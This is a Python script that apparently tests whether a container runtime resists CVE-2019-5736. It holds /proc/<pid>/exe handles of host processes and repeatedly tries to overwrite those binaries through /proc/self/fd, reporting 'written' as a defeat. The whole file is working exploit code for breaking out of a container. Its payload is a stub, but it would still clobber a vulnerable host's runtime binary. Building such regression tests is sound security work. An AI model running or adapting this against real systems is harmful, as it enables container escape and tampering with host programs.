"""Get hold of the program that a host process runs, and write to it when nobody runs it any more (CVE-2019-5736).

``self``: this interpreter was started as /proc/self/exe; hold it, become another program, write.
``others``: hold the program of whatever appears in /proc meanwhile (an exec into this container), write.
Writes until /stop exists; then prints {"held": names, "answers": errno names}; "written" among the answers is a defeat.
"""

import errno
import json
import os
import sys

ORDINARY = ("/bin/busybox", os.path.realpath("/proc/self/exe"))


def write(fd, answers):
    for flags in (os.O_WRONLY, os.O_RDWR | os.O_TRUNC, os.O_WRONLY | os.O_APPEND):
        try:
            target = os.open(f"/proc/self/fd/{fd}", flags)
        except OSError as error:
            answers.add(errno.errorcode[error.errno])
            continue
        try:
            answers.add("written" if os.write(target, b"#!/bin/false\n") else "nothing")
        except OSError as error:
            answers.add(errno.errorcode[error.errno])
        finally:
            os.close(target)


def catch(held):
    me = str(os.getpid())
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or pid == me:
            continue
        try:
            name = os.readlink(f"/proc/{pid}/exe")
            if name not in ORDINARY and name not in held:
                held[name] = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
        except OSError:
            pass


def main(mode, held):
    answers = set()
    print("attacking", flush=True)
    while not os.path.exists("/stop"):
        if mode == "others":
            catch(held)
        for fd in held.values():
            write(fd, answers)
    print(json.dumps({"held": sorted(held), "answers": sorted(answers)}))


if sys.argv[1] == "self":
    fd = os.open("/proc/self/exe", os.O_RDONLY)
    os.set_inheritable(fd, True)
    other = sys.argv[2]  # so that we no longer execute what we hold
    name = os.readlink("/proc/self/exe")
    os.execv(other, [other, "-I", "-S", sys.argv[0], "held", str(fd), name])
elif sys.argv[1] == "held":
    main("held", {sys.argv[3]: int(sys.argv[2])})
else:
    main("others", {})
